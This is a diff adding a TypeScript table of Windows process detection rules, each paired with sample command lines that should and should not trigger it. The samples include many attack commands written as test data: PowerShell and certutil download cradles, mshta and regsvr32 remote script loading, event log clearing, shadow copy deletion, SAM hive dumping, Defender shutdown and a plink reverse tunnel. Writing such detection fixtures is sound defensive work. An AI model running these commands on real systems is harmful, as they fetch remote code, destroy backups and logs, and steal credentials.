@@ -1,0 +1,60 @@
+// Processes, second part: programs that run other code, odd parents, discovery, credentials.
+
+import { child, proc, row, security, type RuleRow } from './sketches.ts';
+
+const r = String.raw;
+const POWERSHELL = r`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`;
+
+// One rule a line reads better than what the formatter makes of it.
+// prettier-ignore
+export const PROCESS_CHAINS: readonly RuleRow[] = [
+  row('process/library-run-from-odd-place-by-rundll32', [proc('rundll32', r`rundll32.exe \\203.0.113.5\s\a.dll,Go`), proc('rundll32', r`rundll32 C:\Users\Public\a.dll,Go`), proc('rundll32', 'rundll32 a.dat,Go')], { CommandLine: 'rundll32.exe shell32.dll,Control_RunDLL' }),
+  row('process/library-registered-from-user-folder', proc('regsvr32', r`regsvr32 /s C:\Users\ann\AppData\Local\a.dll`), { CommandLine: r`regsvr32 /s C:\Windows\System32\a.dll` }),
+  row('process/foreign-code-through-helper-program', [proc(r`C:\Windows\Microsoft.NET\Framework\v4\regasm.exe`, r`regasm C:\Users\Public\a.dll`), proc('mavinject', 'mavinject 4000 /INJECTRUNNING a.dll'), proc('pcalua', 'pcalua -a a.exe')], { CommandLine: r`regasm C:\Program Files\v\a.dll` }),
+  row('process/control-panel-item-from-user-folder', proc('control', r`control C:\Users\ann\Downloads\a.cpl`), { CommandLine: r`control C:\Windows\System32\timedate.cpl` }),
+  row('process/script-run-from-user-folder', [proc('wscript', r`wscript "C:\Users\ann\Downloads\a.js"`), proc('cscript', 'cscript //E:vbscript a.txt')], { CommandLine: r`wscript "C:\Scripts\a.js"` }),
+  row('process/help-file-used-to-run-code', [proc(r`C:\Windows\hh.exe`, r`hh.exe C:\Users\ann\Downloads\a.chm`), child(r`C:\Windows\hh.exe`, 'cmd')], { CommandLine: r`hh.exe C:\Windows\Help\a.chm` }),
+  row('process/web-server-starts-shell', [child(r`C:\Windows\System32\inetsrv\w3wp.exe`, 'cmd', 'cmd /c whoami'), child(r`C:\Program Files\Java\bin\java.exe`, 'cmd', 'cmd /c id', { ParentCommandLine: 'java -cp tomcat/bin/bootstrap.jar' })], { ParentImage: r`C:\Windows\explorer.exe` }, { Image: r`C:\Windows\System32\conhost.exe` }),
+  row('process/database-server-starts-shell', child(r`C:\Program Files\Microsoft SQL Server\sqlservr.exe`, 'cmd', 'cmd /c whoami'), { Image: r`C:\Windows\System32\conhost.exe` }),
+  row('process/shell-started-by-print-spooler', child('spoolsv', 'cmd', 'cmd'), { ParentImage: r`C:\Windows\explorer.exe` }, { CommandLine: r`cmd /c type C:\Windows\System32\spool\x` }),
+  row('process/shell-started-by-service-manager', child('services', 'cmd', 'cmd /c echo'), { Image: r`C:\Windows\System32\svchost.exe` }),
+  row('process/system-shell-from-user-program', [child(r`C:\Users\ann\potato.exe`, 'cmd', 'cmd', { IntegrityLevel: 'System' }), security(4688, { NewProcessName: r`C:\Windows\System32\whoami.exe`, ParentProcessName: r`C:\Temp\p.exe`, MandatoryLabel: 'S-1-16-16384', CommandLine: 'whoami' })], { IntegrityLevel: 'High' }, { ParentImage: r`C:\Program Files\v\agent.exe` }),
+  row('process/elevated-shell-from-task-manager', child('Taskmgr', 'cmd', 'cmd', { IntegrityLevel: 'High' }), { IntegrityLevel: 'Medium' }),
+  row('process/management-console-started-by-dcom', child('svchost', 'mmc', 'mmc.exe -Embedding'), { CommandLine: 'mmc.exe eventvwr.msc' }),
+  row('process/shell-started-by-dcom-object', child(r`C:\Program Files\Microsoft Office\EXCEL.EXE`, 'cmd', 'cmd', { ParentCommandLine: 'EXCEL.EXE /automation -Embedding' }), { ParentCommandLine: 'EXCEL.EXE a.xlsx' }),
+  row('process/in-memory-loader-on-powershell-command-line', proc(POWERSHELL, "powershell -c \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ==')))\""), { CommandLine: 'powershell -c "IEX(gc a.ps1)"' }),
+  row('process/download-cradle-on-command-line', proc(POWERSHELL, "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"), { CommandLine: "powershell (New-Object Net.WebClient).DownloadFile('http://x/a','a.zip')" }),
+  row('process/own-rights-surveyed-with-whoami', [proc('whoami', 'whoami /priv'), proc('whoami', 'whoami', { IntegrityLevel: 'System' })], { CommandLine: 'whoami' }),
+  row('process/domain-trusts-and-admins-listed', [proc('nltest', 'nltest /domain_trusts'), proc('net', 'net group "Domain Admins" /domain')], { CommandLine: 'nltest /query' }),
+  row('process/password-policy-listed', proc('net1', 'net1 accounts /domain'), { CommandLine: 'net1 accounts /maxpwage:42' }),
+  row('process/audit-policy-listed', proc('auditpol', 'auditpol /get /category:*'), { CommandLine: 'auditpol /set /category:*' }),
+  row('process/firewall-settings-listed', proc('netsh', 'netsh advfirewall show allprofiles'), { CommandLine: 'netsh interface show interface' }),
+  row('process/credentials-searched-in-files', [proc('findstr', 'findstr /si password *.xml'), proc(r`C:\x\lazagne.exe`, 'lazagne all')], { CommandLine: 'findstr /si version *.xml' }),
+  row('process/stored-credentials-listed-or-added', proc('cmdkey', 'cmdkey /list'), { CommandLine: 'cmdkey /delete:x' }),
+  row('process/wireless-keys-shown', proc('netsh', 'netsh wlan show profile name=x key=clear'), { CommandLine: 'netsh wlan show profile name=x' }),
+  row('process/shadow-copy-made-by-command', [proc('vssadmin', 'vssadmin create shadow /for=C:'), proc('cmd', r`cmd /c mklink /d C:\s \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\ `)], { CommandLine: 'vssadmin list shadows' }),
+  row('process/event-logs-read-by-command', [proc('wevtutil', 'wevtutil qe Security /c:10'), proc(POWERSHELL, 'powershell Get-WinEvent -LogName Security')], { CommandLine: 'wevtutil el' }),
+  row('process/screen-or-clipboard-captured-by-command', [proc('psr', 'psr /start /output a.zip'), proc('pktmon', 'pktmon start --etw')], { CommandLine: 'psr' }),
+  row('process/linux-subsystem-used-to-run-command', proc('wsl', 'wsl -e curl http://x/a'), { CommandLine: 'wsl --list' }),
+  row('process/browser-started-for-automation', proc(r`C:\Program Files\Google\Chrome\chrome.exe`, r`chrome --load-extension=C:\x`), { CommandLine: 'chrome https://example.com' }),
+  row('process/package-manager-runs-hidden-code', child(r`C:\Program Files\nodejs\node.exe`, r`C:\x\trufflehog.exe`, 'trufflehog filesystem /'), { ParentImage: r`C:\Windows\explorer.exe` }),
+  row('process/package-installed-quietly-from-open-place', proc('msiexec', 'msiexec /q /i http://203.0.113.5/a.msi'), { CommandLine: 'msiexec /i http://203.0.113.5/a.msi' }),
+  row('process/code-run-by-signed-binary', [proc('mshta', 'mshta http://x/a.hta'), proc('regsvr32', 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll')], { CommandLine: r`mshta C:\Program Files\v\a.hta` }),
+  row('process/domain-and-policy-discovery', proc('net', 'net view /domain'), { CommandLine: 'net use' }),
+  row('process/download-with-system-tool', [proc('certutil', 'certutil -urlcache -f http://x/a a'), proc('bitsadmin', 'bitsadmin /transfer j http://x/a a')], { CommandLine: 'certutil -hashfile a' }),
+  row('process/encoded-powershell-command-line', proc(POWERSHELL, 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA=='), { CommandLine: 'powershell -enc short' }),
+  row('process/event-log-cleared-by-command', [proc('wevtutil', 'wevtutil cl Security'), proc('wevtutil', 'wevtutil sl Security /e:false')], { CommandLine: 'wevtutil gl Security' }),
+  row('process/firewall-or-portproxy-changed-by-netsh', [proc('netsh', 'netsh advfirewall set allprofiles state off'), proc('netsh', 'netsh interface portproxy add v4tov4 listenport=80')], { CommandLine: 'netsh advfirewall set allprofiles state on' }),
+  row('process/logged-on-session-taken-over', proc('tscon', 'tscon 2 /dest:rdp-tcp#1'), { CommandLine: 'tscon 2' }),
+  row('process/office-starts-interpreter', child(r`C:\Program Files\Microsoft Office\WINWORD.EXE`, POWERSHELL), { ParentImage: r`C:\Windows\explorer.exe` }),
+  row('process/program-unpacked-by-installer-service', child('msiexec', r`C:\Windows\Installer\MSI1.tmp`), { Image: r`C:\Program Files\v\a.exe` }),
+  row('process/shadow-copies-or-backups-deleted', [proc('vssadmin', 'vssadmin delete shadows /all'), proc('reg', r`reg add "HKLM\Software\Policies\Microsoft\Windows NT\SystemRestore" /v DisableSR /d 1`)], { CommandLine: 'vssadmin list shadows' }),
+  row('process/shell-started-by-wmi', child(r`C:\Windows\System32\wbem\WmiPrvSE.exe`, 'cmd', 'cmd /c a'), { Image: r`C:\Windows\System32\wermgr.exe` }),
+  row('process/ssh-tunnel-to-remote-desktop', proc(r`C:\x\plink.exe`, 'plink -ssh u@203.0.113.5 -R 12345:127.0.0.1:3389'), { CommandLine: 'plink -ssh u@203.0.113.5' }),
+  row('process/accessibility-program-replaced', child('winlogon', 'cmd', 'cmd.exe sethc.exe 211'), { ParentImage: r`C:\Windows\explorer.exe` }),
+  row('process/directory-database-dump-by-command', [proc('reg', r`reg save HKLM\SAM a.hiv`), proc('print', r`print /D:C:\x\s.txt \\localhost\C$\@GMT-2026.02.09-14.25.37\windows\system32\config\SYSTEM`)], { CommandLine: r`reg query HKLM\SAM` }),
+  row('process/elevation-prompt-bypassed', child('fodhelper', 'cmd', 'cmd'), { Image: r`C:\Windows\explorer.exe` }),
+  row('process/program-started-over-winrm', child('wsmprovhost', 'whoami'), { ParentImage: r`C:\Windows\System32\svchost.exe` }),
+  row('process/security-sensor-stopped-by-command', proc('sc', 'sc stop WinDefend'), { CommandLine: 'sc query WinDefend' }),
+  row('process/shell-started-by-management-console', child('mmc', 'cmd', 'cmd /c whoami'), { Image: r`C:\Windows\notepad.exe` }),
+];
